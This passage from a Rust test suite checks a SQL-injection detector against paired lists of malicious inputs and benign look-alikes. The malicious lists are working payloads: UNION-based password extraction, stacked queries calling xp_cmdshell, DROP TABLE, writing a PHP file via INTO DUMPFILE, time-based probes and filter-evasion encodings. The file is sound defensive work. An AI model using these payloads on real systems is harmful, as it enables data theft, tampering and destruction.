        "x/*/*y*/*/",
        "a /* /* */",
    ] {
        assert!(!hit(v), "flagged {v:?}");
    }
}

#[test]
fn plsql_block_that_calls_a_procedure() {
    for v in [
        "'; begin dbms_output.put_line(user); end;--",
        "1; BEGIN my_pkg.run(1); END;",
        "'; begin sys.dbms_x.go('a'); end;",
        "'; begin null; end;--",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
    for v in [
        "begin the day (early); end of story",
        "Let's begin: step.one(); the end",
        "we begin our_trip.plan(today); end of story",
    ] {
        assert!(!hit(v), "flagged {v:?}");
    }
}

#[test]
fn quoted_connectives_in_a_phrase() {
    for v in [
        "the 'or' operator",
        "\"and\" vs \"or\"",
        "use 'and'/'or' here",
        "the \"xor\" gate",
    ] {
        assert!(!hit(v), "flagged {v:?}");
    }
    // a constant operand, letters glued to the quotes, a test, or nothing but quotes
    for v in [
        "a'or'a",
        "x' or '1",
        "the 'or'1",
        "the 'or' 1 thing",
        "the 'or'true",
        "'or'",
        "' or 'a'='a",
        "admin'or'x",
        "the 'or't",
        "A 'OR' B",
        "A 'XOR' B",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
}

#[test]
fn prose_quoting_that_opens_with_a_quoted_word() {
    for v in [
        "'and' vs 'or'",
        "\"and\" vs \"or\"",
        "'select' is a keyword",
    ] {
        assert!(quoted_words_in_prose(v), "not prose {v:?}");
    }
    for v in [
        "' or 'x",
        "'1' or '1'",
        "' and 'a",
        "admin' or 'x",
        "parents' or yours",
        "it's' or 'x",
        "'or 1' and x",
    ] {
        assert!(!quoted_words_in_prose(v), "prose {v:?}");
    }
}

/// Values pasted where the application puts a column, table or sort key (round 20):
/// the select list finished and a second query appended, a sort key then a second key
/// that is no column, a table name then a comment that cuts off the rest.
#[test]
fn identifier_and_sort_key_context() {
    for v in [
        "name FROM users UNION SELECT password",
        "id, name FROM users UNION SELECT username, password FROM admins",
        "u.name FROM app.users UNION SELECT 1",
        "1 asc,@@version",
        "name desc, sleep(5)",
        "price desc,(select 1)",
        "id asc,(case when 1=1 then 1 else 2 end)",
        "users--",
        "created_at-- -",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
    for v in [
        "name",
        "users",
        "created_at desc",
        "created_at desc, name asc",
        "ORDER BY created_at DESC",
        "name from the list",
        "songs from the union select committee",
        "A-- grade",
        "A--",
        "Passw0rd--",
        "C3PO--",
        "api#",
        "hello -- world",
        "aubio — библиотека функций",
        "patgen -- 하이픈 패턴 생성",
    ] {
        assert!(!hit(v), "false positive {v:?}");
    }
}

/// A lone `@@word` is a server variable when the server has it, and an error-based probe
/// when it has not (policy, round 36: see `probe::quoteless_probe`).
#[test]
fn lone_server_variable_needs_a_server_name() {
    for v in [
        "@@handle",
        "@@john",
        "@@elonmusk",
        "@@version",
        "@@datadir",
        "@@SERVERNAME",
        "@@global.secure_file_priv",
        "@@version_comment",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
    for v in ["@@", "@@ab", "me@@handle.com", "hi @@john"] {
        assert!(!hit(v), "false positive {v:?}");
    }
}

/// A whole value that compares a number with itself changes no query (`id=1=1` is
/// `id=1`); with a connective, a comment or zero it does.
#[test]
fn self_equal_constant_alone() {
    for v in [
        "0=0",
        "1=1--",
        "1 or 1=1",
        "0 or 1=1",
        "1' or '1'='1",
        "-1 or 1",
        "0 or 1",
        "1 and 0",
        "1=1 and 2=2",
        "1 or 1=1 allow filtering",
        "1 OR 1=1 ALLOW FILTERING",
        "1 or 1=1 per partition limit 1",
        "1 or 1=1 format JSON",
        "1) or (1=1) timeout 5s",
        "' or 1=1 allow filtering",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
    for v in [
        "1=1",
        "2=2",
        "1 = 1",
        "10 = 10",
        "100 = 100",
        "1=2",
        "allow filtering",
        "1 or 1=1 is a tautology in every logic",
        "5 or more items format JSON",
        "x = 1 or 1=1 always",
    ] {
        assert!(!hit(v), "false positive {v:?}");
    }
}

#[test]
fn boolean_constants_in_arithmetic() {
    for v in ["1-false", "1-true", "2*true", "1+false"] {
        assert!(hit(v), "missed {v:?}");
    }
    // (`3+0` is an arithmetic identity: a numeric-context probe, see `probe.rs`)
    for v in [
        "6-1",
        "true-false",
        "1-false positive",
        "1 - falsely",
        "x-true",
    ] {
        assert!(!hit(v), "flagged {v:?}");
    }
}

#[test]
fn non_decimal_literal_ored_with_a_number() {
    for v in [
        "0x31 or 1",
        "0x41 or 1",
        "0b1 or 1",
        "'a' or 1",
        "b'1' or 1",
        "'a' xor 1",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
    for v in [
        "'yes' or 'no'",
        "'a' or 1 of the others",
        "'a' or b",
        "0x31 or more",
        "2 or 3",
        "'a' and 1",
    ] {
        assert!(!hit(v), "flagged {v:?}");
    }
}

#[test]
fn number_then_row_window() {
    for v in [
        "1 limit 1,1",
        "5 limit 1",
        "1 offset 5",
        "1 LIMIT 0,1",
        "3 limit 2, 1",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
    for v in [
        "1 limit per customer",
        "limit 1",
        "5 top 10",
        "2 limit 3 items",
        "1 fetch 2",
        "10 offset",
    ] {
        assert!(!hit(v), "flagged {v:?}");
    }
}

#[test]
fn account_function_alone() {
    for v in [
        "user()",
        "USER()",
        "current_user()",
        "session_user()",
        "system_user()",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
    for v in [
        "user",
        "user(1)",
        // (`auth()->user()` is flagged before this rule by the PHP arrow read as
        // PostgreSQL's `->`: left as it was)
        "$request->user()",
        "Auth::user()",
        "call user() to get the account",
        "get_user()",
    ] {
        assert!(!hit(v), "flagged {v:?}");
    }
}

#[test]
fn a_parenthesised_select_of_bare_words_is_form_text() {
    // Survey and form wording: without FROM the words are columns no table supplies.
    for v in [
        "Choose (select all that apply)",
        "Exhibit A (Select Items)",
        "Colours (select up to three)",
        "Which days? (Select All That Apply)",
    ] {
        assert!(!hit(v), "{v}");
    }
    // A sub-query that reads something stays one.
    for v in [
        "(select 1)",
        "(select user)",
        "(select current_user)",
        "1 and (select count(*) from users)>0",
        "choose(1,(select password from users))",
        "1=(select top 1 name from sysobjects)",
        "test'-1 union(select table)",
        "(select @@version)",
    ] {
        assert!(hit(v), "{v}");
    }
}

#[test]
fn arithmetic_sum_is_no_self_comparison() {
    // homework: the left side of `=` is the whole sum
    for v in ["10 - 5 = 5", "6 - 3 = 3", "3 * 2 = 2", "2 + 2 = 4"] {
        assert!(!hit(v), "{v}");
    }
    // a sign or a literal's cast before the number is still a self-comparison
    for v in [
        "1 or -1=-1",
        "1 or 5=5",
        "' or 1=1 --",
        "1 and 5 = 5",
        "1*1=1",
        "2-0=0",
    ] {
        assert!(hit(v), "{v}");
    }
}

#[test]
fn quoted_phrase_then_words_is_a_search() {
    for v in [
        "\"union select\" error",
        "`SELECT` is a keyword",
        "\"union select\" doesn't work",
        "'drop table' meaning",
    ] {
        assert!(!hit(v), "{v}");
    }
    for v in [
        "' union select 1--",
        "'union select 'a",
        "\" or \"\"=\"",
        "'union select @@version' x",
    ] {
        assert!(hit(v), "{v}");
    }
}

#[test]
fn split_parameter_fragments_continue_a_comment() {
    for v in ["*/SELECT 1,2", "*/UNION/*", "*/union select 1,2--"] {
        assert!(hit(v), "{v}");
    }
    for v in ["*/ and then", "*/ this is a comment", "*/", "*/ }"] {
        assert!(!hit(v), "{v}");
    }
}

#[test]
fn expression_as_row_offset() {
    for v in [
        "1 OFFSET CASE WHEN (1=1) THEN 1 ELSE 0 END",
        "1 LIMIT (SELECT 1)",
        "1 limit case when 1=1 then 1 else 0 end",
    ] {
        assert!(hit(v), "{v}");
    }
    for v in [
        "10 offset 20 rows",
        "1 limit per customer",
        "5 limit case study",
    ] {
        assert!(!hit(v), "{v}");
    }
}

#[test]
fn brand_with_parenthetical_is_no_call() {
    for v in [
        "Select Comfort (Sleep Number)",
        "select foo (bar baz)",
        "Select Comfort (Sleep)",
    ] {
        assert!(!hit(v), "{v}");
    }
    for v in [
        "sleep(5)",
        "1 and sleep(5)",
        "' union select 1--",
        "select user()",
        "select x (sleep(5))",
    ] {
        assert!(hit(v), "{v}");
    }
}

#[test]
fn sort_list_then_comment_cuts_the_query_off() {
    for v in [
        "1 desc, 2 asc--",
        "name desc#",
        "1,2 asc/*",
        "price asc -- x",
        "id desc, name asc#",
        "created_at desc, id desc -- ",
        "u.created_at desc--",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
    for v in [
        "Sort by price desc",
        "1 desc, 2 asc",
        "A -- B",
        "asc -- ascending order",
        "name asc -- sorted by name",
        "created_at desc, id asc",
        "see points 1, 2) -- and 3",
        "apples, pears from market --",
        "Passw0rd--",
        "1,1--",
    ] {
        assert!(!hit(v), "flagged {v:?}");
    }
}

#[test]
fn call_then_prose_words_stays_data() {
    for v in ["sleep(5) in python", "sleep(5) in a loop"] {
        assert!(!hit(v), "flagged {v:?}");
    }
    for v in [
        "sleep(5)",
        "1 and sleep(5)",
        "sleep(5)#",
        "sleep(5) and 1=1",
        "sleep(5) in (1)",
        "benchmark(1e7,md5(1))",
        "0 or 1",
        "0 = 0",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
}

#[test]
fn number_glued_to_a_connective() {
    for v in [
        "1e1or 1",
        "1e1or(1)",
        "1.e(0)or 1",
        "1.or 1",
        "1e0and 0",
        "1.5xor 1",
        "0x1or 1",
        "1E1OR 1--",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
    for v in [
        "1e10rpm",
        "3dor2",
        "2for1",
        "1 or 2",
        "1or 2",
        "1e1orange",
        "2.0and up",
        "v1.5or 2",
        "1.5 or 2",
    ] {
        assert!(!hit(v), "false positive {v:?}");
    }
}

#[test]
fn bracketed_column_from_a_catalog_table() {
    for v in [
        "[name] FROM sys.sql_logins--",
        "[password_hash] FROM master.sql_logins-- -",
        "`password` FROM mysql.user#",
        "[name],[type] FROM sysobjects--",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
    for v in [
        "[1] Smith et al.",
        "[text](https://example.com)",
        "[draft] title",
        "[draft] from home--",
        "[Update] from John -- see below",
        "[name] from sys.sql_logins",
    ] {
        assert!(!hit(v), "false positive {v:?}");
    }
}

#[test]
fn statement_then_prose_is_a_question() {
    for v in [
        "select * from table - what does star mean",
        "SELECT * FROM orders WHERE id = 42; returns nothing, why?",
        "select * from users; why is it slow?",
    ] {
        assert!(!hit(v), "false positive {v:?}");
    }
    for v in [
        "select * from users",
        "SELECT COUNT(*) FROM visits WHERE date >= '2024-01-01'",
        "SELECT * FROM orders WHERE id = 42;",
        "select * from users; drop table users",
        "select * from users - 1",
        "SELECT * FROM users; exec xp_cmdshell 'dir'",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
}

#[test]
fn sort_list_or_limit_then_a_clause_of_its_own() {
    for v in [
        "name asc limit 1 procedure analyse()",
        "1 desc limit 1 into @x",
        "id limit 1 into outfile '/tmp/x'",
        "id desc, name asc limit 0,1 into @a,@b",
        "u.created_at desc limit 5 offset 10 for update",
        "price asc lock in share mode",
        "id into dumpfile '/var/www/x.php'",
        "5 into outfile '/tmp/a' fields terminated by ','",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
    for v in [
        "name asc",
        "subscribe for update",
        "name for update",
        "sign up for update please",
        "price asc into the cart",
        "limit 1 per customer",
        "put name into outfile",
    ] {
        assert!(!hit(v), "false positive {v:?}");
    }
}

#[test]
fn number_then_terminator_then_comment() {
    for v in ["1;--", "1 ;\0", "1;#", "1;/*", "1; -- -", "42 ;--"] {
        assert!(hit(v), "missed {v:?}");
    }
    for v in ["1;2;3", "Chapter 1; -- notes", "5; ok", "1;", "5;\n"] {
        assert!(!hit(v), "false positive {v:?}");
    }
}

#[test]
fn statement_then_a_question_mark_of_prose() {
    for v in [
        "select * from menu where vegan = yes? lol",
        "SELECT * FROM users WHERE active = true? really?",
        "select name from pets where age > 3?",
    ] {
        assert!(!hit(v), "false positive {v:?}");
    }
    for v in [
        "select * from users where data ? 'admin'",
        "select * from users where id = 1 or 1=1",
        "select * from users; drop table users",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
}

#[test]
fn limit_pair_then_into_variables() {
    for v in [
        "1,1 INTO @a,@b",
        "0,1 into @x",
        "0,1 PROCEDURE ANALYSE(extractvalue(1,concat(0x7e,version())),1)",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
    for v in ["1,1", "1,2 into the box", "3,4 into home", "10,20 in stock"] {
        assert!(!hit(v), "false positive {v:?}");
    }
}

#[test]
fn arithmetic_on_a_bracketed_comparison() {
    for v in ["1^(2>1)", "1*(2>1)", "2-(1=1)", "1 ^ (2 > 1)", "3-(1<2)"] {
        assert!(hit(v), "missed {v:?}");
    }
    // (`1*1` is an arithmetic identity: a numeric-context probe, see `probe.rs`)
    for v in [
        "6-1",
        "100-200",
        "6-1=5",
        "2*(3+4)",
        "2*(3+4)=14",
        "10-(5-3)",
        "(2>1)x",
    ] {
        assert!(!hit(v), "false positive {v:?}");
    }
}

#[test]
fn read_only_query_in_a_code_span_is_prose() {
    for v in [
        "my query `SELECT name FROM t ORDER BY created DESC LIMIT 10` is slow",
        "why is `select count(*) from orders` slow?",
        "try `SELECT * FROM users WHERE id = 5`.",
    ] {
        assert!(!hit(v), "false positive {v:?}");
    }
    for v in [
        "x` or 1=1-- ",
        "my `' or 1=1--` here",
        "1`or`1",
        "see `SELECT 1; DROP TABLE users` now",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
}

#[test]
fn select_list_then_one_idle_word_is_a_search() {
    for v in [
        "SELECT COUNT(*) tutorial",
        "select now() example",
        "SELECT MAX(price) syntax",
    ] {
        assert!(!hit(v), "false positive {v:?}");
    }
    for v in [
        "SELECT COUNT(*) FROM orders GROUP BY status;",
        "select @@version v",
        "SELECT version()",
        "select sleep(5) x",
        "SELECT COUNT(*) total FROM users",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
}

#[test]
fn named_procedure_argument_and_call_after_a_break_out() {
    for v in [
        "x',@p2=1;--",
        "x', @role='admin'--",
        "';CALL sys.exec('id')--",
        "1; call mysql.proc_x(1)#",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
    for v in [
        "x',@@p2=1",
        "Hi, @bob=cool",
        "call sys.exec later",
        "bob@example.com, @x",
    ] {
        assert!(!hit(v), "false positive {v:?}");
    }
}

#[test]
fn adjacent_literals_after_a_quote_break_out() {
    for v in ["' '", "1' '", "ad' 'min", "\" \"", "'' ''", "x' 'y' '"] {
        assert!(hit(v), "missed {v:?}");
    }
    for v in [
        "O' Neil",
        "Rock 'n' Roll",
        "rock'n'roll",
        "rock' n'roll",
        "''",
        // (a lone `'` is a syntax probe, flagged since round 34: see `syntax_error_probes`)
        "it's 'fine'",
        "\"MOD\" \"KITCHEN\"",
        "'machine learning' 'python'",
        "she said ' ' is blank",
        "5' 10\"",
        "\"How do you pronounce SunOS?\"  \"Just like you hear it\"",
    ] {
        assert!(!hit(v), "false positive {v:?}");
    }
}

#[test]
fn collate_clause_in_a_sort_field() {
    for v in [
        "email COLLATE utf8mb4_bin",
        "name collate latin1_swedish_ci desc",
        "u.name COLLATE Latin1_General_CI_AS",
        "title COLLATE NOCASE",
        "2 COLLATE utf8mb4_0900_ai_ci",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
    for v in [
        "created_at DESC",
        "id ASC, name DESC",
        "print and collate pages",
        "pages collate automatically",
        "collate utf8mb4_bin",
        "name NULLS FIRST",
    ] {
        assert!(!hit(v), "false positive {v:?}");
    }
}

#[test]
fn whole_statement_then_an_aside() {
    for v in [
        "select * from life where fun = true (just kidding)",
        "SELECT * FROM users WHERE id = 1 slow",
        "select * from cats where cute = 1 (obviously lol)",
    ] {
        assert!(!hit(v), "false positive {v:?}");
    }
    for v in [
        "SELECT * FROM users WHERE id = 1",
        "select * from users where id = 1 (select 1)",
        "SELECT * FROM users WHERE id = 1 limit",
        "select * from users where name = 'a' or 1=1 (x)",
        "SELECT * FROM users WHERE id = 1 QUALIFY",
        "SELECT * FROM users WHERE id = 1 returning",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
}

/// A keyword split around a copy of itself is what a filter that deletes keywords once
/// joins back (`UNIunionON` → `UNION`); only SQL structure in the joined value counts.
#[test]
fn keywords_split_around_themselves() {
    for v in [
        "1' UNIunionON SELselectECT 1,2--",
        "-1 UNunionION SEselectLECT password FRfromOM users",
        "x' oORr 1=1-- -",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
    for v in [
        "UNIunionON",
        "the SELselectECT button",
        "unionunion select",
        "reunion selection",
        "oorr and aandnd",
        "Kylie's ORor",
    ] {
        assert!(!hit(v), "false positive {v:?}");
    }
}

/// A CASE expression never spans a `;`, and `WAITFOR DELAY|TIME` only pauses with its time
/// operand: prose and searches that name the keywords stay quiet.
#[test]
fn case_and_waitfor_need_their_whole_construct() {
    for v in [
        "1;waitfor delay '0:0:5'--",
        "1 waitfor delay '0:0:5'",
        "'; waitfor delay '0:0:5'--",
        "1);waitfor/**/time/**/'23:59:59'--",
        "1; WAITFOR DELAY @d",
        "WAITFOR DELAY '0:0:5'",
        "(case when 1=1 then 1 else 0 end)",
        "case when 1=1 then sleep(5) end",
        "CASE WHEN (1=1) THEN 1 ELSE 0;--",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
    for v in [
        "case closed; when done, then leave",
        "Case closed; when in doubt, then ask",
        "mssql waitfor delay example",
        "waitfor delay sql server",
        "WAITFOR DELAY",
        "1; waitfor delay in a job",
    ] {
        assert!(!hit(v), "false positive {v:?}");
    }
}

/// A double-quoted identifier names the dropped object as a bare word does, and the
/// modifier-letter apostrophe (U+02BC) is read as `'` where the grammar then finds SQL.
#[test]
fn quoted_identifier_drop_and_modifier_apostrophe() {
    for v in [
        "\"; DROP TABLE \"users\";--",
        "'; DROP TABLE \"users\";--",
        "1; drop table \"public\".\"users\"",
        "1\u{2bc} OR 1=1--",
        "admin\u{2bc}--",
        "x\u{2bc} UNION SELECT password FROM users--",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
    for v in [
        "He said \"; drop table \"users\" and laughed",
        "'DROP TABLE \"users\"' as his nickname",
        "don\u{2019}t",
        "O\u{2019}Brien",
        "don\u{2bc}t",
        "O\u{2bc}Brien",
        "Ha\u{2bc}apua\u{2bc}ina and Hawai\u{2bc}i",
        "\u{43f}\u{2bc}\u{44f}\u{442}\u{44c} or more",
        "it\u{2bc}s 1 or 2 -- maybe",
    ] {
        assert!(!hit(v), "false positive {v:?}");
    }
}

/// ClickHouse's trailing clauses after a number: `SETTINGS name=constant, …` and
/// `FORMAT <format>` (a format name in ClickHouse's case-sensitive spelling).
#[test]
fn clickhouse_trailers_after_a_number() {
    for v in [
        "1 SETTINGS max_threads=1",
        "1 SETTINGS max_threads=1, readonly=0",
        "1 settings max_execution_time = 1",
        "1 FORMAT JSON--",
        "1 FORMAT JSONEachRow -- x",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
    for v in [
        "1 settings page",
        "3 Settings",
        "1 SETTINGS",
        "Windows 10 settings x=1",
        "2 settings user_name=bob",
        "1 format json",
        "1 format JSON files",
        "2 format options",
        "1 format PDF",
    ] {
        assert!(!hit(v), "false positive {v:?}");
    }
}

/// `-1 OR 2`, `0 or 7`: an id no row has (zero or negative) ORed with a non-zero constant,
/// the whole value; counts offered in prose are positive or go on with their unit.
#[test]
fn non_positive_id_ored_with_a_constant() {
    for v in [
        "-1 OR 2",
        "-1 or 2",
        "0 OR 7",
        "-5 || 3",
        "-5 && 3",
        "+0 or 9",
        "-10 Or 1e3",
        "0 or 0.5",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
    for v in [
        "-1 or 2 guests",
        "pick 1 or 2",
        "2 or 3 days",
        "2 or 3",
        "1 or 2",
        "-1 and 2",
        "-1 or 0",
        "3 or 4",
    ] {
        assert!(!hit(v), "false positive {v:?}");
    }
}

/// `bob', balance = balance + 10000 WHERE id=1 -- `: the assigned value of an injected
/// `SET` item is any expression (a column, arithmetic, a call), not only a literal.
#[test]
fn assignment_tail_with_an_expression() {
    for v in [
        "bob', balance = balance + 10000 WHERE id=1 -- ",
        "bob', balance = 99999 WHERE id=1 -- ",
        "x', role = concat(role, ',admin') -- ",
        "x', credits = credits * 100, is_admin = 1#",
        "x', score = score + 1, nick='y",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
    for v in [
        "Smith', balance = balance + 10",
        "Hi', total = price + tax is the formula",
        "a, b = b + 1",
        "O'Brien, x = y + 2 where possible",
    ] {
        assert!(!hit(v), "false positive {v:?}");
    }
}

/// NEL and the line / paragraph separators between tokens, as the layers before SQL turn
/// them into blanks; inside words and prose they change nothing.
#[test]
fn unicode_line_separators_are_blanks() {
    for v in [
        "1\u{2028}OR\u{2028}1=1",
        "1\u{2029}UNION\u{2029}SELECT\u{2029}1,2",
        "1\u{85}or\u{85}1=1",
        "'\u{2028}or\u{2028}'a'='a",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
    for v in [
        "first line\u{2028}second line",
        "select\u{2028}one of the options",
        "Tom\u{2029}and Jerry",
        "caf\u{e9}\u{85}cr\u{e8}me or tea",
    ] {
        assert!(!hit(v), "false positive {v:?}");
    }
}

/// `DROP TABLE <name>` followed by a plain word is a sentence ("Drop table reservation for
/// Friday"); after the name SQL ends the statement or takes its own options.
#[test]
fn drop_table_then_prose() {
    for v in [
        "\"; DROP TABLE users--\"",
        "'; DROP TABLE users--",
        "x'; drop table users cascade--",
        "'; DROP TABLE IF EXISTS users;--",
        "'; drop table users exec xp_cmdshell 'dir'--",
        "1; truncate table sessions--",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
    for v in [
        "Ticket subject: \"Drop table reservation for Friday\"",
        "Drop table reservation for Friday",
        "\"drop table booking for 8\"",
        "Please; drop table reservation tonight",
        "truncate table booking tomorrow please",
    ] {
        assert!(!hit(v), "false positive {v:?}");
    }
}

#[test]
fn syntax_error_probes() {
    for v in [
        "'\"",
        "\"'",
        "')",
        "'))",
        "\")",
        "\\'",
        "\\\"",
        "'\"--",
        "';",
        "'''",
        "('')",
        "'');",
        "1'\"",
        "1')",
        "admin'))",
        "1'\";",
        "abc\")",
        "test'\\",
        "42'--",
        "1\"(.,,'),..",
        "1'\"(,)((.",
        "1)).\"(..(,'",
        "7(\",'.)).",
        "admin'\0",
        "user\"\0",
        "%5C%27",
        "1%27%22",
        "1'\"()&%",
        "x'\"&",
        "1'\"`\\",
        "x'\"`",
    ] {
        assert!(hit(v), "missed probe {v:?}");
    }
    for v in [
        "')",
        "1'\"",
        "admin'))",
        "1\"(.,,'),..",
        "admin'\0",
        ";'",
        ";' --",
    ] {
        let reason = detect(v, Context::Param).map(|d| d.reason);
        assert_eq!(reason, Some("syntax-probe"), "{v:?}");
    }
    // a quote-balance probe: an optional signed number, then unmatched quotes and blanks
    // only, also encoded (policy since round 37: see probe.rs)
    for v in [
        "'", "\"", " ' ", "%27", "%22", "%2527", "1'", "12\"\"\"", "-1'", "+7'", "3.5'", "1' ''",
        "0 '", "99'''", "'\t", "1%27", "-1%27", "%2522", "1%20%27",
    ] {
        let reason = detect(v, Context::Param).map(|d| d.reason);
        assert_eq!(reason, Some("syntax-probe"), "{v:?}");
    }
    // balanced empty literals, a number and a quote followed by more, a word and a quote,
    // a lone backtick or backslash, a sign with no number
    for v in [
        "''",
        "\"\"",
        "''''",
        "12\" pizza",
        "27\"",
        "72 \"",
        "+7\"",
        "6' 2\"",
        "Santhia'",
        "50%'",
        "AT&T'",
        "100%\"",
        "perche'",
        "citta'",
        "`",
        "1234`",
        "`x'`",
        "50%'`",
        "\\",
        "1.'",
        "Jones'",
        "Jones'.",
        "12\".",
        "5'11\"",
        "O'Brien",
        "''",
        "\"\"",
        "--",
        "...",
        ":)",
        ";-)",
        "(:",
        ":'(",
        ":')",
        ";'-)",
        "\"hello\"",
        "'quoted'",
        "\"...\"",
        "\"?\"",
        "it's",
        "don't",
        "rock'n'roll",
        "He said \"no\".",
        "it's fine, isn't it?",
        "6' 2\"",
        "%25",
        "100%",
    ] {
        assert!(!hit(v), "false positive {v:?}");
    }
}

#[test]
fn numeric_update_self_assignment() {
    for v in [
        "0, credits=credits+100000",
        "1, balance = balance * 2",
        "5,quota=quota+999--",
        "0, credits=credits+100, is_admin=1",
        "3, Score=score - -1000",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
    for v in [
        "a=1, b=2",
        "x=y+1, z=z+1",
        "1, x=x+1",
        "width=width+10",
        "5, total=price*2",
    ] {
        assert!(!hit(v), "false positive {v:?}");
    }
}

#[test]
fn computed_number_and_boolean_constant() {
    for v in [
        "3*1 AND 1",
        "3*1 and 0",
        "2-1 or 1",
        "7 / 7 AND 0",
        "-1*1 or 1",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
    for v in [
        "1 and 2",
        "pages 3 and 4",
        "2*3 and 6",
        "3*4 or 12",
        "chapters 1-3 and 5",
        "3*1 and 1 more",
    ] {
        assert!(!hit(v), "false positive {v:?}");
    }
}

#[test]
fn keywords_split_by_empty_tags() {
    for v in [
        "-1 uni<>on sel<>ect 1,2",
        "1 UN<>ION SE<>LECT user,pass FROM users",
        "' o<>r 1=1--",
        "1' un<>ion se<>lect null--",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
    for v in [
        "a<>b",
        "x <> y",
        "Jo<>rdan",
        "if a<>b then c",
        "uni<>on and sel<>ect are words",
    ] {
        assert!(!hit(v), "false positive {v:?}");
    }
}

#[test]
fn quoted_html_tag_is_markup() {
    for v in [
        "Write \"<b>\" to make text bold",
        "Use '<br>' for a line break",
        "wrap it in \"<div>\" and \"</div>\"",
        "close with '<br/>' here",
    ] {
        assert!(!hit(v), "false positive {v:?}");
    }
    for v in [
        "\" < 1 or \"",
        "\"<(select 1)>\"",
        "x\" <b> \"y\" or 1=1--",
        "'<b>' or '1'='1",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
}

#[test]
fn ascii_art_is_no_syntax_probe() {
    for v in [
        "| .' \",  __ __",
        "--        ' )  / {",
        "())      ~()) \"",
        "/__  \\ ------'",
        "\"///",
        ">\"'",
    ] {
        assert!(
            detect(v, Context::Param).map(|d| d.reason) != Some("syntax-probe"),
            "{v:?}"
        );
    }
}

#[test]
fn a_sentence_whose_connective_takes_a_function_word() {
    // an apostrophe or inch mark in a sentence, then `and`/`or` and an article or pronoun,
    // then a `#` or `--` of the prose: the operand is a word of English, no condition
    for v in [
        "My password has a ' and a # in it, is that ok?",
        "My password has a ' and a # in it",
        "the field shows a ' and the -- marks",
        "Can my name have a ' or an # sign?",
        "I typed Bob's ' and it # broke",
        "Is a \" and a # allowed in the title?",
        "The value had a ' or the # in front",
    ] {
        assert!(!hit(v), "flagged {v:?}");
    }
    // the same break-out with a test, a number, a constant, a call, a name that is no
    // function word, or no sentence before it
    for v in [
        "' and a=a#",
        "' and 1#",
        "' and true#",
        "' and sleep(5)#",
        "' or a#",
        "admin' or a#",
        "admin' and a#",
        "x' and the#",
        "My password has a ' and a=a # in it",
        "My password has a ' and 1 # in it",
        "My password has a ' or sleep(5) # in it",
        "My password has a ' and true # in it",
        "My password has a ' or 1=1 # in it",
        "My password has a ' and a or 1=1 # in it",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
}

#[test]
fn bitwise_and_word_arithmetic_is_no_self_comparison() {
    // MySQL's `|`, `&`, `^`, `DIV` and `MOD` bind tighter than `=`: `2 | 3 = 3` compares
    // `2|3` with 3, not 3 with itself
    for v in [
        "2 | 3 = 3",
        "2|3=3",
        "1 | 2 = 2",
        "6 & 3 = 2",
        "5 ^ 3 = 3",
        "10 div 3 = 3",
        "7 mod 3 = 3",
    ] {
        assert!(!hit(v), "flagged {v:?}");
    }
    // the identities (or-ing zero, `div 1`) still test `n=n`; and real tautologies stay
    for v in [
        "1 | 0 = 0",
        "5 div 1 = 1",
        "1 or 3 = 3",
        "' | 3 = 3 -- ",
        "1 and 2|3=3",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
}

#[test]
fn json_document_string_values_are_judged() {
    for v in [
        r#"{"user":"admin'--","pass":"x"}"#,
        r#"{"user":"x","pass":"' OR '1'='1"}"#,
        r#"[{"id":"1 union select username, password from users--"}]"#,
        r#"{"q":{"name":"x' and sleep(5)-- -"}}"#,
        r#"{"user":"admin\u0027--"}"#,
    ] {
        assert!(hit(v), "missed {v:?}");
    }
    for v in [
        r#"{"user":"o'reilly","pass":"x"}"#,
        r#"{"title":"Don't stop","tags":["a","b"],"n":1}"#,
        r#"["select one of the options", "or two"]"#,
        r#"{"admin'--": "x"}"#,
    ] {
        assert!(!hit(v), "flagged {v:?}");
    }
}

#[test]
fn word_with_parenthesised_ending_is_prose() {
    for v in [
        "Sleep(ing) in on Sunday is the best",
        "user(s) of the site",
        "Select(ed) items are listed below",
        "sleep(s) per night, on average",
        "Benchmark(s) in the report",
    ] {
        assert!(!hit(v), "flagged {v:?}");
    }
    for v in [
        "sleep(5)",
        "SLEEP(5)#",
        "sleep(a)",
        "' or sleep(a)-- x",
        "1 or sleep(ing)",
        "sleep(ing) or 1=1",
        "sleep(ing) union select 1",
        "benchmark(1e7,md5(1))",
        "sleep (ing) and 1=1",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
}

#[test]
fn encoded_nul_counts_in_a_probe_suffix() {
    for v in ["abc'%00", "admin\"%00", "1'%2500", "user'\\0", "x')\\x00"] {
        assert_eq!(
            detect(v, Context::Param).map(|d| d.reason),
            Some("syntax-probe"),
            "{v:?}"
        );
    }
    assert!(hit("42'%00--"));
    for v in ["%00", "abc%00", "O'Brien%00x", "50%00 off", "C:\\0'clock"] {
        assert!(!hit(v), "false positive {v:?}");
    }
}

#[test]
